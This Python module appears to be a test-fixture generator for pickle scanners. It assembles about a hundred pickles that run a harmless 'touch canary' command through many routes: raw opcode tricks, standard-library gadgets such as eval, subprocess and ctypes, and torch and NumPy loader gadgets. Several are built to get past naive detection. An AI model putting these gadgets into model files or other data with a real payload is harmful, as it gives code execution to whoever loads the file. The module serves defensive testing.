"""Pickles that run code when Python loads them, each in another way: shapes(canary) -> {name: pickle}.

Each would make the file `canary`, by `touch` or by itself; `payload_proof.py` shows that Python does.
"""
import io
import struct

import numpy


def text(s):
    return b"X" + struct.pack("<I", len(s.encode())) + s.encode()


def name(module, attribute):
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def call(function, *arguments):
    return function + b"(" + b"".join(arguments) + b"tR"


def many(*items):
    return b"](" + b"".join(items) + b"e"


def done(body, protocol=2):
    return b"\x80" + bytes([protocol]) + body + b"."


def frame(body):
    """A pickle of protocol 4 in a frame."""
    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 1) + body + b"."


def short(s):
    return b"\x8c" + bytes([len(s)]) + s.encode()


def memory_map(canary):
    """Arguments with which numpy.memmap.__new__ makes a file."""
    return b"(" + text(str(canary)) + text("uint8") + text("w+") + b"K\0K\x01t"


SYSTEM = name("os", "system")
ZERO = b"K\0"


def opcodes(shell, canary):
    """One for each way in which opcodes come to a call."""
    run = call(SYSTEM, text(shell))
    line = shell.encode()
    yield "reduce", done(name("posix", "system") + text(shell) + b"\x85R")
    yield "protocol_0", b"cos\nsystem\n(S'" + line + b"'\ntR."
    yield "protocol_0_unicode", b"cos\nsystem\n(V" + line + b"\ntR."
    yield "binstring", b"cos\nsystem\n(T" + struct.pack("<I", len(line)) + line + b"tR."
    yield "inst", b"(S'" + line + b"'\nios\nsystem\n."
    yield "obj", b"(cos\nsystem\nS'" + line + b"'\no."
    yield "newobj", done(name("numpy", "memmap") + memory_map(canary) + b"\x81")
    keywords = b"}(" + text("mode") + text("w+") + text("shape") + b"K\x01u"
    yield "newobj_ex", done(name("numpy", "memmap") + b"(" + text(str(canary)) + b"t" + keywords + b"\x92", 4)
    setting = b"}" + text("__setstate__") + SYSTEM + b"s"
    for kind, made in {"simple_namespace": name("types", "SimpleNamespace") + b")R",
                       "namespace": name("argparse", "Namespace") + b")\x81",
                       "ordered_dict": name("collections", "OrderedDict") + b")R"}.items():
        yield f"build_{kind}", done(made + setting + b"b" + text(shell) + b"b")
    yield "build_slots", done(name("argparse", "Namespace") + b")\x81N" + setting + b"\x86b" + text(shell) + b"b")
    partial = name("functools", "partial") + SYSTEM + b"\x85R"
    yield "build_partial", done(partial + b"(" + SYSTEM + b"(" + text(shell) + b"t}Ntb)R")
    yield "stack_global", done(b"\x8c\x02os\x8c\x06system\x93" + text(shell) + b"\x85R", 4)
    added = call(name("operator", "add"), text("o"), text("s"))
    yield "stack_global_computed", done(added + text("system") + b"\x93" + text(shell) + b"\x85R", 4)
    yield "stack_global_memo", done(b"\x8c\x02os\x940\x8c\x06system\x940h\0h\x01\x93" + text(shell) + b"\x85R", 4)
    yield "dotted", done(short("shutil") + short("os.system") + b"\x93" + text(shell) + b"\x85R", 4)
    yield "framed", frame(short("os") + short("system") + b"\x93" + text(shell) + b"\x85R")
    yield "two_frames", frame(short("os") + short("system") + b"\x93")[:-1].replace(
        struct.pack("<Q", 13), struct.pack("<Q", 12)) + b"\x95" + struct.pack("<Q", len(text(shell)) + 3) + text(shell) + b"\x85R."
    yield "protocol_5", done(SYSTEM + text(shell) + b"\x85R", 5)
    yield "memo", done(SYSTEM + b"q\x070Nh\x07" + text(shell) + b"\x85R\x86")
    yield "memo_long", done(SYSTEM + b"r\0\0\x01\x000j\0\0\x01\0" + text(shell) + b"\x85R")
    yield "memoize", done(b"\x8c\x02os\x8c\x06system\x93\x940h\0" + text(shell) + b"\x85R", 4)
    yield "dup", done(SYSTEM + b"2" + text(shell) + b"\x85R\x86")
    yield "popped", done(run + b"0N")
    yield "pop_mark", done(b"(" + run + b"1N")
    yield "nested_argument", done(many(call(SYSTEM, text(shell)), call(name("builtins", "len"), many(run))))
    yield "in_tuple", done(b"K\x01" + run + b"K\x02\x87")
    yield "in_dict_value", done(b"}" + text("weight") + run + b"s")
    yield "in_dict_key", done(b"}" + run + b"K\x01s")
    yield "in_state", done(name("collections", "OrderedDict") + b")R}" + text("_metadata") + run + b"sb")
    yield "in_frozen_set", done(b"(" + run + b"\x91", 4)
    yield "added_to_set", done(b"\x8f(" + run + b"\x90", 4)
    yield "persistent_id", done(b"(" + text("storage") + run + text("0") + text("cpu") + b"K\x04tQ")
    yield "python_2", done(name("commands", "getoutput") + text(shell) + b"\x85R")
    extension = call(name("copyreg", "add_extension"), text("os"), text("system"), b"K\xf0")
    yield "extension", done(extension + b"0\x82\xf0" + text(shell) + b"\x85R")
    yield "newobj_function", done(call(name("copyreg", "__newobj__"), name("numpy", "memmap"), memory_map(canary)[1:-1]))
    arguments = b"(" + text(str(canary)) + b"t"
    yield "newobj_ex_function", done(call(name("copyreg", "__newobj_ex__"), name("numpy", "memmap"), arguments, keywords))
    # The class's own methods are called by what Python does with an instance.
    late = call(name("functools", "partial"), SYSTEM, text(shell))
    for method in ("__hash__", "__del__", "__len__", "__reduce__"):
        made = call(name("builtins", "type"), text("X"), b")", b"}" + text(method) + late + b"s") + b")R"
        if method == "__hash__":
            yield "key_hash", done(b"}" + made + b"Ns")
            yield "set_hash", done(b"\x8f(" + made + b"\x90", 4)
        elif method == "__del__":
            yield "deleted", done(made + b"0N")
        elif method == "__len__":
            yield "length", done(call(name("builtins", "bool"), made))
        else:
            yield "copied", done(call(name("copy", "copy"), made))
    default = call(name("collections", "defaultdict"), late)
    yield "factory", done(call(name("operator", "getitem"), default, text("x")))


def library(shell, canary):
    """One for each function of the standard library that calls another, or runs what it is given."""
    run, path = text(shell), text(str(canary))
    module = call(name("importlib", "import_module"), text("os"))
    code = text(f"__import__('os').system({shell!r})")
    touch = many(text("touch"), path)
    late = call(name("functools", "partial"), SYSTEM, run)
    mapped = call(name("builtins", "map"), SYSTEM, many(run))
    yield "getattr", call(call(name("builtins", "getattr"), module, text("system")), run)
    yield "attrgetter", call(call(call(name("_operator", "attrgetter"), text("system")), module), run)
    yield "methodcaller", call(call(name("operator", "methodcaller"), text("system"), run), module)
    yield "itemgetter", call(call(call(name("operator", "itemgetter"), text("system")), call(name("builtins", "vars"), module)), run)
    yield "partial", late + b")R"
    yield "eval", call(name("builtins", "eval"), code)
    yield "exec", call(name("__builtin__", "exec"), code)
    yield "compile", call(name("builtins", "exec"), call(name("builtins", "compile"), code, text(""), text("exec")))
    yield "runpy", call(name("runpy", "_run_code"), call(name("builtins", "compile"), code, text(""), text("exec")), b"}")
    yield "timeit", call(name("timeit", "timeit"), code, text("pass"), name("time", "perf_counter"), b"K\x01")
    yield "profile", call(name("cProfile", "run"), code)
    yield "debugger", call(call(name("operator", "methodcaller"), text("run"), code), name("bdb", "Bdb") + b")R")
    yield "interpreter", call(call(name("operator", "methodcaller"), text("runsource"), code), name("code", "InteractiveInterpreter") + b")R")
    yield "doctest", call(call(name("operator", "methodcaller"), text("system"), run), call(name("doctest", "_normalize_module"), text("os")))
    yield "subprocess", call(name("subprocess", "Popen"), touch)
    yield "check_output", call(name("subprocess", "check_output"), touch)
    yield "popen", call(name("os", "popen"), run)
    yield "spawn", call(name("posix", "posix_spawn"), text("/bin/sh"), many(text("sh"), text("-c"), run), b"}")
    yield "pty", call(name("pty", "spawn"), touch)
    yield "uuid", call(name("uuid", "_get_command_stdout"), text("touch"), path)
    yield "asyncio", call(name("asyncio", "run"), call(name("asyncio", "create_subprocess_shell"), run))
    browser = call(name("webbrowser", "GenericBrowser"), many(text("touch"), text("%s")))
    yield "webbrowser", call(call(name("operator", "methodcaller"), text("open"), path), browser)
    encoded = call(name("_codecs", "encode"), run, text("utf-8"))
    library_of_c = call(name("ctypes", "CDLL"), b"N")
    yield "ctypes", call(call(name("builtins", "getattr"), library_of_c, text("system")), encoded)
    yield "thread", call(name("_thread", "start_new_thread"), SYSTEM, b"(" + run + b"t")
    yield "pip", call(name("pip", "main"), many(text("--log"), path, text("config"), text("list")))
    yield "list_of_map", call(name("builtins", "list"), mapped)
    yield "counter_of_map", call(name("collections", "Counter"), mapped)
    yield "set_of_map", call(name("builtins", "set"), mapped)
    yield "deque_of_map", call(name("collections", "deque"), mapped)
    yield "tuple_of_starmap", call(name("builtins", "tuple"), call(name("itertools", "starmap"), SYSTEM, many(b"(" + run + b"t")))
    yield "functools_reduce", call(call(name("functools", "reduce"), name("builtins", "getattr"), many(text("system")), module), run)
    yield "open", call(name("builtins", "open"), path, text("w"))
    yield "copy_file", call(name("shutil", "copyfile"), text("/dev/null"), path)
    yield "logging", call(name("logging", "FileHandler"), path)
    yield "database", call(name("sqlite3", "connect"), path)
    yield "zip_file", call(name("zipfile", "ZipFile"), path, text("w"))
    inner = done(call(SYSTEM, run))
    data = call(name("_codecs", "encode"), text(inner.decode("latin1")), text("latin1"))
    yield "pickle_in_pickle", call(name("pickle", "loads"), data)
    yield "c_pickle_in_pickle", call(name("_pickle", "loads"), data)


def of_torch(shell, canary):
    """One for each function of torch or NumPy that runs what it is given."""
    run = text(shell)
    code = text(f"__import__('os').system({shell!r})")
    trap = done(call(SYSTEM, run))
    bytes_of = call(name("_codecs", "encode"), text(trap.decode("latin1")), text("latin1"))
    unsafe = name("functools", "partial") + name("torch.serialization", "load") + b"\x85}" + text("weights_only") + b"\x89s\x92"
    yield "torch_load", done(call(unsafe, call(name("io", "BytesIO"), bytes_of)), 4)
    yield "collect_env", done(call(name("torch.utils.collect_env", "run"), run))
    yield "exec_wrapper", done(call(name("torch.jit.unsupported_tensor_ops", "execWrapper"), code, b"}", b"}"))
    yield "forward_from_source", done(call(name("torch.fx.graph_module", "_forward_from_src"), text("def forward(): pass\n" + f"__import__('os').system({shell!r})"), b"}"))
    yield "pickle_decoder", done(call(name("torch.utils.data.datapipes.utils.decoder", "basichandlers"), text("pickle"), bytes_of))
    yield "rebuild_from_type", done(call(name("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, name("torch", "Tensor"), b"(" + run + b"t", b"}"))
    yield "rebuild_wrapper", done(call(name("torch._tensor", "_rebuild_from_type"), SYSTEM, name("torch", "Tensor"), b"(" + run + b"t", b"}"))
    yield "hooks", done(call(name("torch._utils", "_rebuild_tensor_v2"), call(SYSTEM, run)))
    yield "dtype", done(call(name("numpy", "dtype"), call(SYSTEM, run)))
    yield "f2py", done(call(name("numpy.f2py.crackfortran", "myeval"), code, b"}", b"}"))
    array = call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), ZERO + b"\x85", text("b"))
    kind = call(name("numpy", "dtype"), text("O8"), b"K\0", b"K\x01")
    yield "object_array", done(array + b"(K\x01K\x01\x85" + kind + b"\x89" + many(call(SYSTEM, run)) + b"tb")
    file = io.BytesIO()
    numpy.save(file, numpy.array([None], dtype=object), allow_pickle=True)
    header = file.getvalue()[: file.getvalue().index(b"\x80")]
    npy = call(name("_codecs", "encode"), text((header + trap).decode("latin1")), text("latin1"))
    yield "numpy_load", done(call(name("numpy", "load"), call(name("io", "BytesIO"), npy), b"N", b"\x88"))
    yield "run_string", done(call(name("numpy.testing._private.utils", "runstring"), code, b"}"))


def shapes(canary):
    """Pickles by name; `canary` is the file that they would make."""
    shell = f"touch {canary}"
    found = dict(opcodes(shell, canary))
    for kind, body in library(shell, canary):
        assert kind not in found, kind
        found[kind] = done(body)
    found.update(of_torch(shell, canary))
    return found
